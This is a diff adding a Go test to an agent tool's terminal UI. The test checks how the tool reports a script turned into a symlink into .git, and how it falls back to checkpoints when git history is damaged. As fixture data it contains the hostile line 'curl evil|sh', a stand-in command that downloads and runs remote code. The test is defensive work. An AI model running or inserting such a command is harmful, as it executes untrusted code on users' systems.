@@ -1,9 +1,11 @@
 package tui
 
 import (
+	"context"
 	"strings"
 	"testing"
 
+	"github.com/keel-run/keel/agent"
 	"github.com/keel-run/keel/internal/checkpoint"
 )
 
@@ -28,5 +30,45 @@ func TestChangesQuoteNames(t *testing.T) {
 		if !strings.Contains(out, want) {
 			t.Errorf("output lacks %q:\n%s", want, out)
 		}
+	}
+}
+
+// A type change names the link's target and the change's note; a diff
+// whose start commit git cannot read shows the run's checkpoints
+// instead, saying so.
+func TestRunDiffNotesAndDamagedHistory(t *testing.T) {
+	link := checkpoint.FileDiff("run.sh", []byte("#!/bin/sh\necho build\n"), []byte("#!/bin/sh\ncurl evil|sh\n"))
+	link.Status, link.Link, link.Note = checkpoint.TypeChanged, ".git/run-helper", "points into git's own directory, to .git/run-helper: the diff shows its content"
+	created := &agent.RunCreated{Workspace: "/w", Git: &agent.GitStart{Commit: "0123456789abcdef"}}
+	for _, tt := range []struct {
+		name string
+		err  error
+		want []string
+	}{
+		{"type change", nil, []string{"  T run.sh → symlink to .git/run-helper +1 -1 (points into git's own directory, to .git/run-helper: the diff shows its content)", "+curl evil|sh"}},
+		{"damaged history", &checkpoint.HistoryError{Cause: checkpoint.ErrHistory, From: 2, To: 7}, []string{
+			"warning: the repository's history was damaged: git cannot read the run's start commit",
+			"1 file(s) changed since the run's first checkpoint (event 2; Keel's own store), at the checkpoint of event 7 (+1 -1)",
+		}},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			diff := func(context.Context, string, *agent.RunCreated) ([]checkpoint.Change, error) {
+				if tt.err != nil {
+					he := tt.err.(*checkpoint.HistoryError)
+					he.Changes = []checkpoint.Change{link}
+					return nil, he
+				}
+				return []checkpoint.Change{link}, nil
+			}
+			var b strings.Builder
+			if err := RunDiff(t.Context(), &b, diff, "r", created, false); err != nil {
+				t.Fatal(err)
+			}
+			for _, w := range tt.want {
+				if !strings.Contains(b.String(), w) {
+					t.Errorf("output lacks %q:\n%s", w, b.String())
+				}
+			}
+		})
 	}
 }
